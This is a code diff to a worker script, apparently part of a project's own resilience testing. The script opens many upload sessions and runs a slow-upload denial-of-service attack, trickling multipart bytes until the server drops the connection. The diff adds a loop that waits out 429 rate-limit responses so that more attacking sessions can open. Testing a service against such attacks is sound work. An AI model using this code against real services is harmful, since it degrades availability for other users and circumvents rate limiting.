@@ -2,6 +2,7 @@ import { once } from 'node:events';
 import { connect } from 'node:net';
 import { setTimeout as sleep } from 'node:timers/promises';
 import { parentPort, workerData } from 'node:worker_threads';
+import { ApiError } from '@vidno/contract/client';
 import { SESSION_HEADER } from '@vidno/contract/constants';
 import { acceptConsent, FACE_SEARCH_CONSENT } from '@vidno/contract/privacy';
 import { addSearchDemo } from '@vidno/contract/smart-search';
@@ -22,6 +23,8 @@ interface Uploader {
 
 const TRICKLE_MS = 1_000;
 const REFUSED_PAUSE_MS = 250;
+/** The limits of the address that an earlier attack used up are given back within a minute. */
+const OPENING_PAUSE_MS = 5_000;
 /** As large as a picture may be. */
 const JUNK_BYTES = 20 * 1024 * 1024;
 const FILE_START = '--x\r\nContent-Disposition: form-data; name="image"; filename="a.jpg"\r\n\r\nabc';
@@ -35,6 +38,17 @@ async function openUploader(index: number): Promise<Uploader> {
   const { version } = FACE_SEARCH_CONSENT;
   await call(acceptConsent, { body: { kind: 'face_search', version, purpose: 'Мешаю другим' } });
   return { index, headers: { ...forwarded, [SESSION_HEADER]: token } };
+}
+
+async function openUploaderOnceAllowed(index: number): Promise<Uploader> {
+  for (;;) {
+    try {
+      return await openUploader(index);
+    } catch (error) {
+      if (!(error instanceof ApiError && error.status === 429)) throw error;
+      await sleep(OPENING_PAUSE_MS);
+    }
+  }
 }
 
 /** Sends the start of a form, then one byte at a time or nothing, until the server cuts it. */
@@ -75,6 +89,6 @@ async function attack(uploader: Uploader): Promise<never> {
 }
 
 const opened: Uploader[] = [];
-for (let index = 0; index < uploaders; index += 1) opened.push(await openUploader(index));
+for (let index = 0; index < uploaders; index += 1) opened.push(await openUploaderOnceAllowed(index));
 for (const uploader of opened) void attack(uploader);
 parentPort?.postMessage('attacking');
